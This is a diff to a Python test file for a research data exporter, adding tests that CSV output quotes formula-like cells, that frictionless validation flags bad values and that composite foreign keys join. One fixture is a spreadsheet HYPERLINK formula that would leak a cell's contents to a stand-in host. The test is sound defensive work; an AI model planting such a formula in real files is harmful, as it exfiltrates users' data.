@@ -11,7 +11,9 @@ import frictionless
 import pandas as pd
 import pyarrow.parquet as pq
 
+from bridgework.practice.models import CheckInScale, PracticeLog
 from bridgework.research.export.tables import TABLES
+from bridgework.research.export.writers import csv_safe
 from bridgework.research.tests.helpers import (
     NOTE,
     TAKEAWAY,
@@ -29,17 +31,47 @@ def file_columns(out: Path, name: str, fmt: str) -> list[str]:
     return list(pq.read_schema(out / f"{name}.parquet").names)
 
 
+FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1, "my notes")'
+
+
+def as_in_csv(frame: pd.DataFrame, name: str) -> pd.DataFrame:
+    """A table as its CSV holds it: words that start like a formula quoted (writers.csv_safe)."""
+    for column in TABLES[name].columns:
+        if column.may_hold_words and column.name in frame:
+            frame[column.name] = pd.Series(
+                [csv_safe(v) for v in frame[column.name]], dtype=object, index=frame.index
+            )
+    return frame
+
+
 def count(db: duckdb.DuckDBPyConnection, sql: str) -> int:
     return int(db.execute(sql).fetchall()[0][0])
 
 
 class FormatTests(ExportTestCase):
     def test_csv_and_parquet_give_the_same_data(self) -> None:
+        for free_text in (False, True):
+            self.study.include_free_text = free_text
+            PracticeLog.objects.update(note=FORMULA)
+            as_csv, _ = export(self.study, "csv")
+            as_parquet, _ = export(self.study, "parquet")
+            for name in TABLES:
+                with self.subTest(table=name, free_text=free_text):
+                    pd.testing.assert_frame_equal(
+                        load(as_csv, name), as_in_csv(load(as_parquet, name), name)
+                    )
+
+    def test_a_csv_cell_that_starts_like_a_formula_is_quoted_and_parquet_keeps_it(self) -> None:
+        self.study.include_free_text = True
+        PracticeLog.objects.update(note=FORMULA)
+        CheckInScale.objects.update(name="@anxiety")
         as_csv, _ = export(self.study, "csv")
         as_parquet, _ = export(self.study, "parquet")
-        for name in TABLES:
-            with self.subTest(table=name):
-                pd.testing.assert_frame_equal(load(as_csv, name), load(as_parquet, name))
+        self.assertEqual(set(load(as_csv, "practice_logs")["note"]), {"'" + FORMULA})
+        self.assertEqual(set(load(as_parquet, "practice_logs")["note"]), {FORMULA})
+        self.assertIn("'@anxiety", set(load(as_csv, "ratings")["scale"]))
+        self.assertIn("@anxiety", set(load(as_parquet, "ratings")["scale"]))
+        self.assertNotIn("'", "".join(load(as_csv, "ratings")["rating_id"]))  # pseudonyms
 
     def test_the_codebook_lists_every_column_of_every_file_and_nothing_else(self) -> None:
         for fmt in ("csv", "parquet"):
@@ -74,8 +106,10 @@ class FormatTests(ExportTestCase):
         ratings = next(r for r in descriptor_of(out)["resources"] if r["name"] == "ratings")
         value = next(f for f in ratings["schema"]["fields"] if f["name"] == "value")
         self.assertEqual(
-            (value["type"], value["unit"], value["allowed"]), ("integer", "points", "0–100")
+            (value["type"], value["unit"], value["constraints"]),
+            ("integer", "points", {"minimum": 0, "maximum": 100}),
         )
+        self.assertNotIn("allowed", value)
         self.assertEqual(ratings["schema"]["primaryKey"], ["rating_id"])
         self.assertIn(
             {
@@ -84,6 +118,18 @@ class FormatTests(ExportTestCase):
             },
             ratings["schema"]["foreignKeys"],
         )
+
+    def test_frictionless_checks_the_ranges_and_codes_of_the_data(self) -> None:
+        out, _ = export(self.study, "csv")
+        ratings = out / "ratings.csv"
+        header, first, *rest = ratings.read_text(encoding="utf-8").splitlines()
+        ratings.write_text("\n".join([header, first.rsplit(",", 1)[0] + ",101", *rest]) + "\n")
+        prompts = out / "prompts.csv"
+        prompts.write_text(prompts.read_text(encoding="utf-8").replace(",answered,", ",maybe,"))
+        report = frictionless.validate(out / "datapackage.json")
+        errors = {tuple(e) for e in report.flatten(["type", "fieldName"])}
+        self.assertIn(("constraint-error", "value"), errors)
+        self.assertIn(("constraint-error", "state"), errors)
 
     def test_foreign_keys_name_only_tables_in_the_package(self) -> None:
         self.study.tables = ["clients", "practice_logs"]
@@ -98,16 +144,19 @@ class JoinTests(ExportTestCase):
         out, _ = export(self.study, "parquet")
         db = duckdb.connect()
         for name, table in TABLES.items():
-            for column, other, key in table.foreign_keys:
-                with self.subTest(table=name, column=column):
+            for columns, other, keys in table.references():
+                with self.subTest(table=name, columns=columns):
+                    given = " AND ".join(f"t.{column} IS NOT NULL" for column in columns)
+                    joins = " AND ".join(
+                        f"o.{key} = t.{column}" for column, key in zip(columns, keys, strict=True)
+                    )
                     missing = count(
                         db,
-                        f"SELECT count(*) FROM '{out}/{name}.parquet' WHERE {column} IS NOT NULL "
-                        f"AND {column} NOT IN (SELECT {key} FROM '{out}/{other}.parquet')",
+                        f"SELECT count(*) FROM '{out}/{name}.parquet' t WHERE {given} AND NOT "
+                        f"EXISTS (SELECT 1 FROM '{out}/{other}.parquet' o WHERE {joins})",
                     )
                     joined = count(
-                        db,
-                        f"SELECT count(*) FROM '{out}/{name}.parquet' WHERE {column} IS NOT NULL",
+                        db, f"SELECT count(*) FROM '{out}/{name}.parquet' t WHERE {given}"
                     )
                     self.assertEqual(missing, 0)
                     self.assertGreater(joined, 0)
